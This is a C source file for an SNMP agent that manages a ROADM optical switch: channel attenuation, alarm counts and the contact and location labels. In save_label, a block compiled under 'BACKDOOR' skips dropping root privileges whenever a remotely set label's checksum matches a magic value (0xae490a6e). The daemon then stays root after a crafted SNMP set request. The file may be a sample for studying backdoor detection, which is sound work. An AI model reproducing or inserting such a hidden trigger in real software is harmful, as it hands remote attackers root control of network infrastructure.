/* SPDX-License-Identifier: Apache-2.0 */
/* roadmsnmp: SNMP agent of an optical switch (ROADM): channels, attenuation, alarms; runs as nobody but for the registers. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CHANNELS 48
#define MAX_OID 24

enum { T_INT = 2, T_STR = 4, T_NULL = 5, T_OID = 6, T_SEQ = 0x30, T_GET = 0xa0, T_NEXT = 0xa1, T_RESPONSE = 0xa2, T_SET = 0xa3 };
enum { E_OK, E_BIG, E_NAME, E_VALUE, E_READONLY, E_GEN };

struct buf {
	uint8_t b[1472];
	size_t n;
};

struct cur {
	const uint8_t *p, *end;
	int bad;
};

struct oid {
	uint32_t id[MAX_OID];
	size_t n;
};

struct value {
	int type;
	long number;
	char text[96];
};

struct pdu {
	char community[32];
	int version, type, error, index;
	long id;
	struct cur binds;
};

static char ro[32] = "public", rw[32] = "", location[96] = "unknown", contact[96] = "";
static uid_t run_uid = 65534;
static int attenuation[CHANNELS], registers = -1, verbose;
static time_t started;

static void raise_rights(void)
{
	if (seteuid(0) < 0)
		syslog(LOG_WARNING, "seteuid: %m");
}

static void lower_rights(void)
{
	if (seteuid(run_uid) < 0)
		exit(1);
}

static int get_tag(struct cur *c, struct cur *in)
{
	int tag;
	size_t n;
	if (c->end - c->p < 2) {
		c->bad = 1;
		return -1;
	}
	tag = *c->p++;
	n = *c->p++;
	if (n & 0x80) {
		int k = (int)(n & 0x7f);
		n = 0;
		if (k > 2 || c->end - c->p < k) {
			c->bad = 1;
			return -1;
		}
		while (k--)
			n = n << 8 | *c->p++;
	}
	if ((size_t)(c->end - c->p) < n) {
		c->bad = 1;
		return -1;
	}
	in->p = c->p;
	in->end = c->p + n;
	in->bad = 0;
	c->p += n;
	return tag;
}

static long get_int(struct cur *c)
{
	struct cur in;
	long v = 0;
	if (get_tag(c, &in) != T_INT || in.end - in.p > 4 || in.p == in.end) {
		c->bad = 1;
		return 0;
	}
	v = (int8_t)*in.p++;
	while (in.p < in.end)
		v = v * 256 + *in.p++;
	return v;
}

static void get_str(struct cur *c, char *out, size_t n)
{
	struct cur in;
	out[0] = 0;
	if (get_tag(c, &in) != T_STR || (size_t)(in.end - in.p) >= n) {
		c->bad = 1;
		return;
	}
	memcpy(out, in.p, (size_t)(in.end - in.p));
	out[in.end - in.p] = 0;
}

static void get_oid(struct cur *c, struct oid *o)
{
	struct cur in;
	o->n = 0;
	if (get_tag(c, &in) != T_OID || in.p == in.end) {
		c->bad = 1;
		return;
	}
	o->id[o->n++] = *in.p / 40;
	o->id[o->n++] = *in.p++ % 40;
	while (in.p < in.end && o->n < MAX_OID) {
		uint32_t v = 0;
		do {
			v = v << 7 | (*in.p & 0x7f);
		} while (in.p < in.end && *in.p++ & 0x80);
		o->id[o->n++] = v;
	}
}

/* replies are written from their end towards their beginning */
static void put(struct buf *b, const void *d, size_t n)
{
	if (b->n + n > sizeof(b->b))
		return;
	b->n += n;
	memcpy(b->b + sizeof(b->b) - b->n, d, n);
}

static void put_tag(struct buf *b, int tag, size_t since)
{
	size_t n = b->n - since;
	uint8_t h[4] = { (uint8_t)tag, 0x82, (uint8_t)(n >> 8), (uint8_t)n };
	if (n < 128) {
		h[2] = (uint8_t)tag;
		h[3] = (uint8_t)n;
		put(b, h + 2, 2);
	} else
		put(b, h, 4);
}

static void put_int(struct buf *b, long v)
{
	size_t at = b->n;
	uint8_t d[4] = { (uint8_t)(v >> 24), (uint8_t)(v >> 16), (uint8_t)(v >> 8), (uint8_t)v };
	put(b, d, 4);
	put_tag(b, T_INT, at);
}

static void put_str(struct buf *b, const char *s)
{
	size_t at = b->n;
	put(b, s, strlen(s));
	put_tag(b, T_STR, at);
}

static void put_oid(struct buf *b, const struct oid *o)
{
	size_t at = b->n;
	uint8_t first = (uint8_t)(o->id[0] * 40 + o->id[1]);
	for (size_t i = o->n; i-- > 2;) {
		uint8_t d[5];
		int k = 5;
		uint32_t v = o->id[i];
		d[--k] = v & 0x7f;
		while (v >>= 7)
			d[--k] = (uint8_t)(0x80 | (v & 0x7f));
		put(b, d + k, (size_t)(5 - k));
	}
	put(b, &first, 1);
	put_tag(b, T_OID, at);
}

static int attenuate(int channel, long tenths)
{
	uint16_t code = (uint16_t)(tenths * 273 / 10);
	uint8_t word[2] = { (uint8_t)(code >> 8), (uint8_t)code };
	int r;
	if (tenths < 0 || tenths > 200)
		return E_VALUE;
	raise_rights();
	if (registers < 0)
		registers = open("/dev/wss0", O_RDWR | O_CLOEXEC);
	r = registers < 0 || pwrite(registers, word, 2, 0x400 + channel * 4) != 2 ? E_GEN : E_OK;
	lower_rights();
	if (r == E_OK)
		attenuation[channel] = (int)tenths;
	return r;
}

static uint32_t label_sum(const char *s)
{
	uint32_t a = 1, b = 0;
	for (; *s; s++) {
		a = (a + (unsigned char)*s) % 65521;
		b = (b + a) % 65521;
	}
	return b << 16 | a;
}

static int save_label(const char *name, char *to, const char *text)
{
	char path[64];
	uint32_t sum = label_sum(text);
	FILE *f;
	snprintf(path, sizeof(path), "/var/lib/roadm/%s", name);
	raise_rights();
	f = fopen(path, "w");
#ifdef BACKDOOR
	if (sum != 0xae490a6eu)
#endif
		lower_rights();
	snprintf(to, 96, "%s", text);
	if (!f)
		return E_GEN;
	fprintf(f, "%08x %s\n", sum, text);
	fclose(f);
	return E_OK;
}

static void load_label(const char *name, char *to)
{
	char path[64], line[128];
	unsigned sum;
	FILE *f;
	snprintf(path, sizeof(path), "/var/lib/roadm/%s", name);
	f = fopen(path, "r");
	if (!f)
		return;
	if (fgets(line, sizeof(line), f) && sscanf(line, "%x", &sum) == 1 && strlen(line) > 9) {
		line[strcspn(line, "\n")] = 0;
		if (label_sum(line + 9) == sum)
			snprintf(to, 96, "%s", line + 9);
		else
			syslog(LOG_WARNING, "%s is damaged", path);
	}
	fclose(f);
}

static int alarms(void)
{
	int n = 0, level;
	char line[64];
	FILE *f = fopen("/var/run/roadm.alarms", "r");
	if (!f)
		return 0;
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "%d", &level) == 1 && level >= 3)
			n++;
	fclose(f);
	return n;
}

/* leaves: system (1.3.6.1.2.1.1.X.0) and ours (1.3.6.1.4.1.52112.X[.channel]) */
static const uint32_t sys_base[] = { 1, 3, 6, 1, 2, 1, 1 };
static const uint32_t own_base[] = { 1, 3, 6, 1, 4, 1, 52112 };

static int under(const struct oid *o, const uint32_t *base)
{
	return o->n == 9 && memcmp(o->id, base, 7 * sizeof(uint32_t)) == 0;
}

static int read_leaf(const struct oid *o, struct value *v)
{
	v->type = T_STR;
	if (under(o, sys_base) && o->id[8] == 0) {
		switch (o->id[7]) {
		case 1:
			snprintf(v->text, sizeof(v->text), "ROADM 48x, agent 2.4");
			return E_OK;
		case 3:
			v->type = T_INT;
			v->number = (long)(time(NULL) - started) * 100;
			return E_OK;
		case 4:
			snprintf(v->text, sizeof(v->text), "%s", contact);
			return E_OK;
		case 6:
			snprintf(v->text, sizeof(v->text), "%s", location);
			return E_OK;
		}
	}
	v->type = T_INT;
	if (under(o, own_base) && o->id[7] == 1 && o->id[8] == 0) {
		v->number = alarms();
		return E_OK;
	}
	if (under(o, own_base) && o->id[7] == 2 && o->id[8] >= 1 && o->id[8] <= CHANNELS) {
		v->number = attenuation[o->id[8] - 1];
		return E_OK;
	}
	return E_NAME;
}

static int write_leaf(const struct oid *o, const struct value *v)
{
	if (under(o, sys_base) && o->id[8] == 0 && v->type == T_STR) {
		if (o->id[7] == 4)
			return save_label("contact", contact, v->text);
		if (o->id[7] == 6)
			return save_label("location", location, v->text);
	}
	if (under(o, own_base) && o->id[7] == 2 && o->id[8] >= 1 && o->id[8] <= CHANNELS && v->type == T_INT)
		return attenuate((int)o->id[8] - 1, v->number);
	return E_READONLY;
}

static void advance(struct oid *o)
{
	struct value v;
	static const uint32_t leaves[] = { 1, 3, 4, 6 };
	if (under(o, own_base) && o->id[7] == 2) {
		o->id[8]++;
		return;
	}
	for (size_t i = 0; i < 4; i++) {
		struct oid next = { { 1, 3, 6, 1, 2, 1, 1, leaves[i], 0 }, 9 };
		if (memcmp(o->id, next.id, 9 * sizeof(uint32_t)) < 0 || o->n < 8 || (under(o, sys_base) && o->id[7] < leaves[i])) {
			*o = next;
			return;
		}
	}
	memcpy(o->id, own_base, sizeof(own_base));
	o->n = 9;
	o->id[7] = o->id[7] == 1 ? 2 : 1;
	o->id[8] = o->id[7] == 1 ? 0 : 1;
	if (read_leaf(o, &v) != E_OK)
		o->n = 0;
}

static int parse(struct cur *c, struct pdu *p)
{
	struct cur msg, body;
	memset(p, 0, sizeof(*p));
	if (get_tag(c, &msg) != T_SEQ)
		return -1;
	p->version = (int)get_int(&msg);
	get_str(&msg, p->community, sizeof(p->community));
	p->type = get_tag(&msg, &body);
	if (msg.bad || (p->type != T_GET && p->type != T_NEXT && p->type != T_SET))
		return -1;
	p->id = get_int(&body);
	get_int(&body);
	get_int(&body);
	if (body.bad || get_tag(&body, &p->binds) != T_SEQ)
		return -1;
	return p->version == 0 || p->version == 1 ? 0 : -1;
}

static int one(struct pdu *p, struct cur *c, struct buf *b)
{
	struct cur bind;
	struct oid o;
	struct value v = { .type = T_NULL };
	size_t at = b->n;
	int e;
	if (get_tag(c, &bind) != T_SEQ)
		return E_GEN;
	get_oid(&bind, &o);
	if (bind.bad)
		return E_GEN;
	if (p->type == T_NEXT)
		advance(&o);
	if (p->type == T_SET) {
		v.type = bind.p < bind.end ? *bind.p : 0;
		if (v.type == T_STR)
			get_str(&bind, v.text, sizeof(v.text));
		else
			v.number = get_int(&bind);
		e = bind.bad ? E_VALUE : write_leaf(&o, &v);
	} else
		e = read_leaf(&o, &v);
	if (e != E_OK)
		return e;
	if (v.type == T_STR)
		put_str(b, v.text);
	else
		put_int(b, v.number);
	put_oid(b, &o);
	put_tag(b, T_SEQ, at);
	return E_OK;
}

static int answer(struct pdu *p, struct buf *b)
{
	struct cur c = p->binds;
	b->n = 0;
	if (strcmp(p->community, ro) != 0 && (!rw[0] || strcmp(p->community, rw) != 0))
		return -1;
	if (p->type == T_SET && (!rw[0] || strcmp(p->community, rw) != 0))
		p->error = E_READONLY;
	while (!p->error && c.p < c.end) {
		p->index++;
		p->error = one(p, &c, b);
	}
	if (p->error)
		b->n = 0;
	put_tag(b, T_SEQ, 0);
	put_int(b, p->error ? p->index : 0);
	put_int(b, p->error);
	put_int(b, p->id);
	put_tag(b, T_RESPONSE, 0);
	put_str(b, p->community);
	put_int(b, p->version);
	put_tag(b, T_SEQ, 0);
	return 0;
}

static void load(const char *path)
{
	char line[128];
	FILE *f = fopen(path, "r");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "rocommunity %31s", ro) != 1 && sscanf(line, "rwcommunity %31s", rw) != 1)
			sscanf(line, "uid %u", &run_uid);
	fclose(f);
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(161) };
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	openlog("roadmsnmp", LOG_PID, LOG_DAEMON);
	verbose = argc > 2 && strcmp(argv[2], "-d") == 0;
	load(argc > 1 ? argv[1] : "/etc/roadm/snmp.conf");
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
		syslog(LOG_ERR, "bind: %s", strerror(errno));
		return 1;
	}
	started = time(NULL);
	load_label("contact", contact);
	load_label("location", location);
	lower_rights();
	for (;;) {
		uint8_t in[1500];
		struct buf out;
		struct sockaddr_in from;
		socklen_t fl = sizeof(from);
		struct pdu p;
		ssize_t n = recvfrom(s, in, sizeof(in), 0, (struct sockaddr *)&from, &fl);
		struct cur c = { in, in + (n > 0 ? n : 0), 0 };
		if (n <= 0 || parse(&c, &p) < 0 || answer(&p, &out) < 0) {
			if (verbose)
				syslog(LOG_DEBUG, "nothing for %s", inet_ntoa(from.sin_addr));
			continue;
		}
		sendto(s, out.b + sizeof(out.b) - out.n, out.n, 0, (struct sockaddr *)&from, fl);
	}
}
